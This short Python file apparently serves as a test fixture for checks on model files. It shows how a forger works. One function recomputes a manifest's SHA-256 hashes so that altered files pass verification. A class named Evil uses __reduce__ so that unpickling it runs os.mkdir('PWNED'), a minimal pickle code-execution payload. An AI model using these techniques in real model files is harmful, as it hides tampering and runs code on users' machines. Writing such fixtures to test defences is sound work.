"""What a forger would do to a model's folder."""

import hashlib
import json
import os


def resign(folder):
    """Makes the manifest fit the files."""
    manifest = json.loads((folder / "manifest.json").read_text())
    for name in manifest["sha256"]:
        manifest["sha256"][name] = hashlib.sha256((folder / name).read_bytes()).hexdigest()
    (folder / "manifest.json").write_text(json.dumps(manifest))


class Evil:
    """Unpickled, it makes a folder."""

    def __reduce__(self):
        return (os.mkdir, ("PWNED",))
